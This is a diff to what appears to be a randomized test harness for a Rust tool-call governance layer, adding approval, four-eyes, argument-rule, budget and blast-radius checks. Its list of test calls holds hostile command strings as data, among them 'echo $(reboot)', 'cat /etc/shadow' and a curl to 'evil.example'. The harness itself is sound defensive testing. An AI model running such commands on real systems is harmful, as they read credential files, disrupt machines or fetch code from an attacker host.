@@ -8,14 +8,16 @@ use serde::Serialize;
 use serde_json::{Value, json};
 
 use super::exhaustive::real_gate;
-use super::model::{Answered, Call, Ending, Model, Seen};
+use super::model::{Answered, Call, Ending, Model, Seen, WrongToken};
 use super::random::Random;
 use crate::answer::Conclusion;
 use crate::context::{Keep, ResolvedResource};
 use crate::gate::Gate;
-use crate::governance::{Governance, GovernanceInput, PolicyVerdict};
+use crate::governance::{
+    ApprovalNeed, ArgumentRule, BlastRadius, Bound, Budget, Governance, GovernanceInput, PolicyVerdict,
+};
 use crate::invariants::{Actor, Violation};
-use crate::session::{Session, SessionOptions, ToolScope};
+use crate::session::{FourEyes, Session, SessionOptions, ToolScope};
 use crate::settle::Moment;
 use crate::state::State;
 
@@ -143,9 +145,16 @@ fn world<'g>(gate: &'g Gate, random: &mut Random, now: Timestamp) -> Option<Mode
             } else {
                 ToolScope::All
             };
+            let owners = ["approver", "owner"];
             let options = SessionOptions {
                 level,
                 tools,
+                owner: random.pick(&owners).and_then(|name| UserId::new(*name).ok()),
+                four_eyes: if random.once_in(3) {
+                    FourEyes::On
+                } else {
+                    FourEyes::Off
+                },
                 ..SessionOptions::default()
             };
             Some(Session::new(SessionId::from_bytes([number; 16]), options))
@@ -202,7 +211,11 @@ fn step(
                     let Some(call) = random.pick(calls) else { return };
                     model.edit(at, call);
                 }
-                2 => model.approve_wrongly(at),
+                2 => {
+                    if let Some(wrong) = random.pick(WrongToken::ALL) {
+                        model.approve_wrongly(at, *wrong);
+                    }
+                }
                 _ => model.approve(at, Governance::Absent),
             }
         }
@@ -317,6 +330,7 @@ fn calls(resources: &[ResolvedResource]) -> Vec<Call> {
         "echo $(reboot)",
         "cat /etc/shadow",
         "curl https://evil.example/x",
+        "curl -s https://status.example.org",
         "",
         "\u{0}",
     ];
@@ -423,6 +437,21 @@ fn calls(resources: &[ResolvedResource]) -> Vec<Call> {
     calls
 }
 
+fn argument_rules() -> Vec<ArgumentRule> {
+    let forbid = |tool: &str, argument: &str, value: &str| {
+        Some(ArgumentRule {
+            tool: ToolName::new(tool).ok()?,
+            argument: argument.to_owned(),
+            bound: Bound::ForbiddenValues(BTreeSet::from([value.to_owned()])),
+        })
+    };
+    let rules = [
+        forbid("infra_query", "action", "list"),
+        forbid("infra_control", "action", "restart"),
+    ];
+    rules.into_iter().flatten().collect()
+}
+
 fn governance() -> Vec<GovernanceInput> {
     let normal = GovernanceInput::in_mode(Mode::Normal);
     let policy = |policy| GovernanceInput {
@@ -444,6 +473,26 @@ fn governance() -> Vec<GovernanceInput> {
             rate_limit_per_hour: Some(1),
             calls_in_last_hour: 1,
             ..normal.clone()
+        },
+        GovernanceInput {
+            argument_rules: argument_rules(),
+            ..normal.clone()
+        },
+        GovernanceInput {
+            blast_radius: Some(BlastRadius { affected: 3, most: 2 }),
+            ..normal.clone()
+        },
+        GovernanceInput {
+            budgets: vec![Budget {
+                name: "writes_per_session".to_owned(),
+                spent: 5,
+                limit: 5,
+            }],
+            ..normal.clone()
+        },
+        GovernanceInput {
+            approval: ApprovalNeed::Required,
+            ..normal
         },
         forbidden,
     ]
